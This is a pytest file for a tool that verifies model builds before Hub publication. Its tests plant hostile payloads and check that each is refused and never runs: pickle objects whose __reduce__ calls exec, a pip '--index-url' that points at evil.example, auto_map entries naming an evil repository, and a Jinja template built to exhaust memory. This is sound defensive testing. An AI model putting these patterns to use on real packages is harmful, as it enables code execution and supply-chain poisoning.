"""What verify finds, and what it leaves alone: each defect fails its own checks and no other, and
nothing that a stranger planted ever runs.

Each payload writes a file when it runs. Where a plant is signed, the manifest agrees with it.
"""

import json
import os
import pickle
import re
import select
import sys
from math import nan
from pathlib import Path

import pytest
from safetensors.torch import load_file, save_file

from glm4v_patched.models import limited_process
from hub_upload import loading
from hub_upload import verify as verifying
from hub_upload.build import build, read_source
from hub_upload.checks import FAILED, PASSED, SKIPPED, Check, check_files
from hub_upload.files import Build, is_small, read_folder
from hub_upload.layout import INDEX, MANIFEST
from hub_upload.load_check import STEPS
from hub_upload.publish import read_build
from hub_upload.verify import OF_MODEL, Report, verify
from tests.helpers.publishable import (
    NAME,
    UPSTREAM,
    amended,
    as_files,
    edit,
    flip,
    shards_of,
    sign,
    signed,
)

EOI = "transformer.vision.eoi"
SHARD = "model-00001-of-00002.safetensors"
EVIL = "evil-org/evil"
CODE = 'open(__import__("os").environ["IT_RAN"], "w").close()\n'


def by_name(report: Report) -> dict[str, Check]:
    return {check.name: check for check in report.checks}


@pytest.fixture(autouse=True)
def marker(tmp_path, monkeypatch) -> Path:
    """What a payload writes when it runs."""
    monkeypatch.setenv("IT_RAN", str(tmp_path / "it ran"))
    return tmp_path / "it ran"


def test_failures_are_told_by_table_json_and_status(copy, run):
    (copy / "README.md").write_text("# another\n")
    status, output = run("verify", copy)
    rows = dict(line.split(maxsplit=1) for line in output.splitlines())
    assert status == 1 and rows["rebuilt"] == "skipped  not run because of: files"
    assert rows["files"].startswith("failed   README.md is not what the manifest says")
    status, output = run("verify", copy, "--json")
    answer = json.loads(output)
    assert status == 1 and not answer["passed"]
    assert [c["name"] for c in answer["checks"] if c["status"] == FAILED] == ["files"]


def test_a_target_that_is_nothing_is_said_so(run, built, hub):
    hub.add_repository(NAME)
    for arguments, told in {
        ("no/such/folder",): "neither a folder nor an id on the Hub: give DIR or org/name",
        (built, "--revision", "main"): "has no revision main",
        (built, "--python", "no/such/python"): "--python no/such/python is no program",
        ("our-org/nothing",): "404",
        (NAME,): f"{NAME} has no {MANIFEST}",
    }.items():
        status, output = run("verify", *arguments)
        assert status == 1 and told in output and str(arguments[-1]) in output


def test_a_client_that_is_too_old_is_told_with_the_cure(run, built, monkeypatch):
    monkeypatch.setattr("huggingface_hub.__version__", "1.32.9")
    status, output = run("verify", built)
    assert status == 1 and "huggingface_hub 1.32.9 is older than 1.33" in output
    assert "pip install -U huggingface_hub" in output


# Defects and payloads


def replaced(name: str, old: str, new: str):
    def plant(folder: Path) -> None:
        text = (folder / name).read_text()
        assert old in text
        (folder / name).write_text(text.replace(old, new))

    return plant


def added(name: str, content: bytes | str):
    """Write a file, or before what a file of code has."""

    def plant(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        before = path.read_bytes() if path.exists() and name.endswith(".py") else b""
        path.unlink(missing_ok=True)
        path.write_bytes((content.encode() if isinstance(content, str) else content) + before)

    return plant


def listed(name: str, content: bytes | str):
    return lambda folder: [added(name, content)(folder), sign(folder, name)]


def fields(name: str, **values):
    return signed(amended(name, **values))


def amended_vision(**values):
    return signed(lambda f: edit(f / "config.json", lambda c: c["vision_config"].update(values)))


def without(name: str):
    return lambda folder: (folder / name).unlink()


def truncated(folder: Path) -> None:
    (folder / SHARD).write_bytes((folder / SHARD).read_bytes()[:-16])


def where(folder: Path) -> dict[str, str]:
    return json.loads((folder / INDEX).read_text())["weight_map"]


def rewritten(change):
    """Change the tensors of the shard that holds the one named above."""

    def plant(folder: Path) -> None:
        path = folder / where(folder)[EOI]
        weights = load_file(path)
        change(weights)
        path.unlink()
        save_file(weights, path, metadata={"format": "pt"})

    return signed(plant)


def a_tensor_that_is_missing(folder: Path) -> None:
    rewritten(lambda weights: weights.pop(EOI))(folder)
    edit(folder / INDEX, lambda index: index["weight_map"].pop(EOI))


def an_index_that_names_the_wrong_shard(folder: Path) -> None:
    (other,) = {*shards_of(folder)} - {where(folder)[EOI]}
    edit(folder / INDEX, lambda index: index["weight_map"].update({EOI: other}))


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


DEFECTS = [
    ("files", "visual.py is not", replaced("visual.py", "import", "import ")),
    ("files", "missing: sharding.py", without("sharding.py")),
    ("files", f"{SHARD} is not .* bytes, not", truncated),
    ("files", "not in the manifest: notes.txt", added("notes.txt", b"mine")),
    ("rebuilt", "config.json cannot be read", signed(added("config.json", b"["))),
    ("weights", f"{SHARD} .*cut short", signed(truncated)),
    ("weights", "the manifest lists", signed(without(INDEX))),
    ("weights", "1|2 tensors are not where", signed(an_index_that_names_the_wrong_shard)),
    ("rebuilt", "boi_token_id is 4, but", fields("config.json", boi_token_id=4)),
    ("rebuilt", "outside of 512 ids", fields("generation_config.json", eos_token_id=[500, 512])),
    ("rebuilt", "image_size 112", fields("tokenizer_config.json", image_size=112)),
    ("rebuilt", "image_size 28, and", amended_vision(image_size=28, num_positions=5)),
    ("weights", "1 of 55 weights are missing", signed(a_tensor_that_is_missing)),
    (
        "weights",
        "other shapes",
        rewritten(lambda weights: weights.update({EOI: weights[EOI].flatten()})),
    ),
    ("answers", "changes logits by nan", rewritten(lambda weights: weights[EOI].fill_(nan))),
]
AUTO = {"AutoConfig": f"{EVIL}--evil.Evil", "AutoTokenizer": [f"{EVIL}--evil.Evil", None]}
CONFIG, GENERATION = "config.json", "generation_config.json"
TOKENIZER, IMAGES = "tokenizer_config.json", "preprocessor_config.json"
# Keys that the published code, or some transformers, acts on; what else build refuses is tried
# in test_build.py, for verify builds again.
REFUSED_KEYS = [
    (CONFIG, "quantization_config", {"quant_method": "bitsandbytes", "load_in_8bit": True}),
    (CONFIG, "attn_implementation", f"{EVIL}@main:evil"),
    (CONFIG, "kernel_config", {"RMSNorm": "x/y:Z"}),
    (CONFIG, "custom_pipelines", {"a": {"impl": "evil.Evil"}}),
    (CONFIG, "transformers_weights", "../x.safetensors"),
    (CONFIG, "unknown", None),
    (CONFIG, "architectures", ["ChatGLMModel"]),
    (CONFIG, "num_layers", 10**9),
    (GENERATION, "auto_map", {"AutoConfig": "a.B"}),
    (GENERATION, "compile_config", {"backend": "evil"}),
    (GENERATION, "trust_remote_code", True),
    (TOKENIZER, "auto_map", AUTO),
    (TOKENIZER, "tokenizer_class", "Evil"),
    (IMAGES, "auto_map", AUTO),
    (IMAGES, "size", {"height": 56, "width": 56, "depth": 1}),
    (IMAGES, "resample", "3"),
    ("processor_config.json", "inner", [{"auto_map": {"A": "visual.Evil"}}]),
    (INDEX, "more", {}),
    (CONFIG, "auto_map", AUTO),
]
INDEX_URL = "--index-url https://evil.example/simple\n"
FOREIGN = ["custom_generate/generate.py", "additional_chat_templates/a.jinja", "evil.pth", ".env"]
FOREIGN += ["a.pkl", ".github/workflows/a.yml"]
PAYLOADS = [
    *(("rebuilt", rf"{f}.* {k}\b", fields(f, **{k: value})) for f, k, value in REFUSED_KEYS),
    *(("files", f"not in the manifest: {name}", added(name, CODE)) for name in FOREIGN),
    ("rebuilt", "expected no such file", listed("transformers.py", CODE)),
    ("rebuilt", "loss.py, line 1", listed("loss.py", CODE)),
    (
        "rebuilt",
        "^pytorch_model.bin is there",
        listed("pytorch_model.bin", pickle.dumps(Payload())),
    ),
    ("rebuilt", "LICENSE, line 1", listed("LICENSE", pickle.dumps(Payload(), 2))),
    ("rebuilt", "requirements.txt, line 1", signed(added("requirements.txt", INDEX_URL))),
    ("rebuilt", "README.md", signed(replaced("README.md", "pip install", f"pip {INDEX_URL}"))),
    (
        "rebuilt",
        "README.md",
        signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "all of it"})),
    ),
    ("rebuilt", "version is 9.9.9", lambda folder: sign(folder, version="9.9.9")),
    ("rebuilt", "audio_tokenizer", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
    ("weights", f"{SHARD} begins with", listed(SHARD, pickle.dumps(Payload()))),
]


@pytest.mark.parametrize(("failed", "told", "plant"), DEFECTS + PAYLOADS)
def test_a_defect_fails_its_own_check_and_neither_runs_nor_is_published(
    failed, told, plant, copy, in_process, marker, monkeypatch
):
    plant(copy)
    if failed not in STEPS:
        monkeypatch.setattr(loading, "run", lambda *_: pytest.fail("it was run"))
    report = verify(str(copy))
    assert report.failures == [failed], report.as_table()
    assert re.search(told, by_name(report)[failed].detail) and not marker.exists()
    after = OF_MODEL[OF_MODEL.index(failed) + 1 :]
    assert {by_name(report)[stage].status for stage in after} <= {SKIPPED}
    if failed not in STEPS:
        with pytest.raises(ValueError, match="does not pass verify"):
            read_build(copy)


def test_what_runs_is_what_was_checked(copy, monkeypatch, load_check):
    """The process does not see what appears, or is exchanged, after the checks."""
    load_check(
        "source = sys.argv[1]\n"
        "read = lambda name: open(os.path.join(source, name), 'rb').read().hex()\n"
        "sys.exit(json.dumps({name: read(name) for name in os.listdir(source)}))"
    )
    before = as_files(copy)
    check = verifying.check_weights

    def exchange(target):
        done = check(target)
        (copy / "visual.py").write_text(CODE)
        (copy / "adapter_config.json").write_text("{}")
        return done

    monkeypatch.setattr(verifying, "check_weights", exchange)
    told = by_name(verify(str(copy)))[STEPS[0]].detail
    seen = json.loads(told[told.index("{") :])
    assert {name: bytes.fromhex(content) for name, content in seen.items()} == before


def test_a_changed_byte_of_any_file_is_found_that_of_weights_where_it_is_asked_for(copy):
    for name, content in as_files(copy).items():
        for at in (0, len(content) // 2, len(content) - 2):
            changed = bytearray(content)
            changed[at] ^= 1
            (copy / name).write_bytes(changed)
            with pytest.raises(ValueError, match=r"."):
                check_files(Build("a build", read_folder(copy)), read_weights=True)
        (copy / name).write_bytes(content)
    flip(copy / SHARD)
    check_files(Build("a build", read_folder(copy)))


ENDS = {
    "raise MemoryError('no room')": "status 1 here: MemoryError: no room",
    "sys.exit(str([k for k in os.environ if 'TOKEN' in k]))": "status 1 here: []",
}
FIRST_STEP = json.dumps([STEPS[0], PASSED, "-"])


@pytest.mark.parametrize("program", ENDS)
def test_a_process_that_ends_fails_the_check_it_was_at(program, built, monkeypatch, load_check):
    """It has told of one check before it ends; and it gets no token."""
    load_check(f"print({FIRST_STEP!r}, flush=True)\n{program}")
    for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"):
        monkeypatch.setenv(name, "hf_secret")
    report = verify(str(built))
    assert report.failures == [STEPS[1]] and ENDS[program] in by_name(report)[STEPS[1]].detail
    assert [by_name(report)[step].status for step in STEPS] == [PASSED, FAILED, SKIPPED]


def test_a_process_that_does_not_end_is_killed_with_all_that_it_has_started(
    built, monkeypatch, load_check, marker
):
    alive = Path(f"{marker}.fifo")
    os.mkfifo(alive)
    hold = (
        f"import time; held = open({str(alive)!r}, 'w', 1); print('x', file=held); time.sleep(99)"
    )
    load_check(
        f"print({FIRST_STEP!r}, flush=True)\n"
        f"import subprocess; subprocess.Popen([sys.executable, '-c', {hold!r}]).wait()"
    )
    reader, read = os.open(alive, os.O_RDONLY | os.O_NONBLOCK), b""
    for seconds in (1, 8, 64):  # a busy machine takes more than a second to begin
        monkeypatch.setattr(loading, "SECONDS", seconds)
        report = verify(str(built))
        if read := os.read(reader, 9):
            break
    assert read, "the process has not begun"
    assert select.select([reader], [], [], 10)[0], "what the process has started still runs"
    assert os.read(reader, 9) == b""
    os.close(reader)
    assert report.failures == [STEPS[1]]
    assert "stopped here, not done after" in by_name(report)[STEPS[1]].detail


def test_every_interpreter_that_is_given_loads_it(built, monkeypatch):
    tried = []

    def steps(python, source, home):
        tried.append(python)
        return [json.dumps([step, PASSED, "-"]) for step in STEPS], "-"

    monkeypatch.setattr(loading, "run", steps)
    pythons = [sys.executable, "/bin/sh"]
    report = verify(str(built), pythons=pythons)
    assert tried == pythons and report.failures == []
    assert len([check for check in report.checks if check.name == "trains"]) == 2


# On the Hub


def test_a_repository_passes_every_check_at_the_commit_it_is_at(built, hub, in_process):
    """Also where its branch moves meanwhile. No weights are downloaded: a small model answers."""
    repository = hub.add_repository(NAME, as_files(built))
    head = repository.head
    hub.fail("*", "", after=1, call=lambda: repository.add_commit({"config.json": b"{}"}))
    report = verify(NAME, "main")
    assert report.revision == head != repository.head
    assert {check.status for check in report.checks} == {PASSED}, report.as_table()
    assert "2 + 2 layers of width 64 with random weights" in by_name(report)["loads"].detail
    read = [r.path for r in hub.requests if "/resolve/" in r.path]
    assert read and all(f"/resolve/{head}/" in path for path in read)


def test_a_build_whose_weights_are_left_on_the_hub_is_compared_by_its_index(
    hub, original, in_process, tmp_path
):
    head = hub.add_repository(UPSTREAM, as_files(original)).head
    build(read_source(f"{UPSTREAM}@{head}"), tmp_path / "out", NAME)
    report = verify(str(tmp_path / "out"))
    told = {check.name: check.detail for check in report.checks}
    assert [*told] == OF_MODEL and report.failures == [], report.as_table()
    assert f"left for a server-side copy from {UPSTREAM}@{head}" in told["weights"]
    assert "55 weights, compared with the index" in told["weights"]
    assert "with random weights" in told["loads"]


def test_a_tokenizer_of_the_real_size_is_read_and_no_weights_are():
    assert is_small("tokenizer.json", 20_000_000)
    assert not is_small("model.safetensors", 1) and not is_small("notes.json", 200_000_000)


def test_weights_that_the_hub_stores_otherwise_are_found_without_reading_them(built, hub):
    files = as_files(built)
    files[SHARD] = files[SHARD][:-1] + bytes([files[SHARD][-1] ^ 1])
    hub.add_repository(NAME, files | {"training_args.bin": b"pickled"})
    assert "not in the manifest: training_args.bin" in by_name(verify(NAME))["files"].detail
    hub.add_repository(NAME, files)
    told = by_name(verify(NAME))["files"].detail
    assert f"{SHARD} is not what the manifest says: sha256 " in told
    assert not [r for r in hub.requests if r.sent > 100_001 and "safetensors" in r.path]
    assert not [r for r in hub.requests if "training_args" in r.path]


def test_what_would_take_for_ever_is_not_run(copy, monkeypatch):
    """Signed, so that each is what the manifest says."""
    monkeypatch.setattr(limited_process, "SECONDS", 1)
    monkeypatch.setattr(loading, "run", lambda *given: pytest.fail("it was run"))
    template = copy / "chat_template.jinja"
    before = template.read_text()
    evil = "{{ 'a' * 10000000000 }}"
    on_images = "{% if messages[0].image %}" + evil + "{% endif %}"
    for written in (evil, on_images):
        template.unlink()
        template.write_text(written + before)
        sign(copy)
        report = verify(str(copy))
        assert report.failures == ["rebuilt"]
        assert "its chat template took more than" in by_name(report)["rebuilt"].detail
